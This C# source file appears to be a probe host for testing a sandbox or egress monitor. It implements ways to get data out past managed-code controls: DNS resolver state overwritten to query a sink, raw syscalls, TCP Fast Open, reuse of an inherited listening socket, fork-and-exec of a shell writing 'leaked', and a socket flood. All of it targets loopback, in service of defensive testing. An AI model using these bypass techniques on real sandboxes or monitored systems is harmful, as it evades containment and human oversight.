using System.Buffers.Binary;
using System.Globalization;
using System.Net;
using System.Runtime.InteropServices;

namespace CapitalOs.ProbeHost.Techniques;

/// <summary>What code would do that knows the kernel. Failures of a step do not keep it from the next one.</summary>
internal static unsafe class NativeTechniques
{
    private const int Inet = 2;
    private const int StreamCloseOnExec = 1 | 0x80000;
    private const int FastOpenFlag = 0x20000000;
    private const int AddressBytes = 16;
    private const int ListenerOfServers = 3;
    private const int ChildSignal = 17;

    /// <summary>
    /// The C library's resolver, told to ask the sink: the state of this thread lists the name servers, at fixed places
    /// (two counters and the options first, then how many servers, then their addresses).
    /// </summary>
    public static void Resolver(string port)
    {
        _ = Libc.ResolverInit();
        byte* state = Libc.ResolverState();
        *(int*)state = 1;
        *(int*)(state + 4) = 1;
        *(int*)(state + 16) = 1;
        Loopback(port).CopyTo(new Span<byte>(state + 20, AddressBytes));
        _ = Dns.GetHostEntry("secret-of-the-family.example");
    }

    public static void LibcCalls(string port)
    {
        int socket = Libc.Socket(Inet, StreamCloseOnExec, 0);
        fixed (byte* address = Loopback(port))
        fixed (byte* payload = ManagedTechniques.Payload)
        {
            Require(Libc.Connect(socket, address, AddressBytes) == 0);
            Require(Libc.Send(socket, payload, (nuint)ManagedTechniques.Payload.Length, 0) > 0);
        }

        _ = Libc.Close(socket);
    }

    public static void RawSystemCalls(string port)
    {
        int socket = (int)Libc.Syscall(Numbers.Socket, Inet, StreamCloseOnExec, 0, 0, 0, 0);
        fixed (byte* address = Loopback(port))
        fixed (byte* payload = ManagedTechniques.Payload)
        {
            nint length = ManagedTechniques.Payload.Length;
            nint connected = Libc.Syscall(Numbers.Connect, socket, (nint)address, AddressBytes, 0, 0, 0);
            nint sent = Libc.Syscall(Numbers.SendTo, socket, (nint)payload, length, 0, 0, 0);
            Require(connected == 0 && sent == length);
        }

        _ = Libc.Close(socket);
    }

    /// <summary>Sends with the first packet of a connection, without any connect call.</summary>
    public static void FastOpen(string port)
    {
        int socket = Libc.Socket(Inet, StreamCloseOnExec, 0);
        FastOpenFrom(socket, port);
        _ = Libc.Close(socket);
    }

    /// <summary>
    /// Turns a listening socket into one that calls out, which needs no new socket: a server has the inherited one,
    /// the unsealed control makes its own.
    /// </summary>
    public static void Listener(string port)
    {
        int socket = Libc.Socket(Inet, StreamCloseOnExec, 0);
        bool isControl = socket >= 0 && Libc.Listen(socket, 1) == 0;
        int listener = isControl ? socket : ListenerOfServers;
        _ = Libc.Shutdown(listener, 2);
        FastOpenFrom(listener, port);
        _ = isControl ? Libc.Close(socket) : 0;
    }

    /// <summary>Forks and executes by raw calls; everything is at hand before, as the child has one thread.</summary>
    public static void ForkAndExecute(string path)
    {
        nint* environment = stackalloc nint[1] { 0 };
        nint* arguments = stackalloc nint[4]
        {
            Marshal.StringToCoTaskMemUTF8("/bin/sh"),
            Marshal.StringToCoTaskMemUTF8("-c"),
            Marshal.StringToCoTaskMemUTF8($"echo leaked > '{path}'"),
            0,
        };
        nint execute = Numbers.Execve;
        nint exit = Numbers.ExitGroup;
        nint child = Libc.Syscall(Numbers.Clone, ChildSignal, 0, 0, 0, 0, 0);
        if (child == 0)
        {
            _ = Libc.Syscall(execute, arguments[0], (nint)arguments, (nint)environment, 0, 0, 0);
            _ = Libc.Syscall(exit, 1, 0, 0, 0, 0, 0);
        }

        int status = 0;
        Require(child > 0 && Libc.WaitPid((int)child, &status, 0) == child && status == 0);
    }

    /// <summary>Ends the process without any of its own clean-up.</summary>
    public static void ExitProcess() => Libc.Syscall(Numbers.ExitGroup, 0, 0, 0, 0, 0, 0);

    /// <summary>Becomes another start of the same program, the one thing that may be executed.</summary>
    public static void ReplaceProcess()
    {
        nint* environment = stackalloc nint[1] { 0 };
        nint* arguments = stackalloc nint[3]
        {
            Marshal.StringToCoTaskMemUTF8(Environment.ProcessPath!),
            Marshal.StringToCoTaskMemUTF8("--version"),
            0,
        };
        _ = Libc.Syscall(Numbers.Execve, arguments[0], (nint)arguments, (nint)environment, 0, 0, 0);
    }

    /// <summary>Asks for TCP sockets, and halfway once for a UDP one.</summary>
    public static void Flood(long count)
    {
        const int datagram = 2;
        for (long i = 0; i < count; i++)
        {
            int type = i == count / 2 ? datagram : StreamCloseOnExec;
            _ = Libc.Syscall(Numbers.Socket, Inet, type, 0, 0, 0, 0);
        }
    }

    private static void FastOpenFrom(int socket, string port)
    {
        fixed (byte* address = Loopback(port))
        fixed (byte* payload = ManagedTechniques.Payload)
        {
            nint length = ManagedTechniques.Payload.Length;
            Require(Libc.Syscall(
                Numbers.SendTo, socket, (nint)payload, length, FastOpenFlag, (nint)address, AddressBytes) == length);
        }
    }

    private static byte[] Loopback(string port)
    {
        byte[] address = new byte[AddressBytes];
        BinaryPrimitives.WriteInt16LittleEndian(address, Inet);
        BinaryPrimitives.WriteUInt16BigEndian(
            address.AsSpan(2), ushort.Parse(port, CultureInfo.InvariantCulture));
        IPAddress.Loopback.TryWriteBytes(address.AsSpan(4), out _);
        return address;
    }

    private static void Require(bool ok)
    {
        if (!ok)
        {
            throw new InvalidOperationException("a step failed");
        }
    }
}
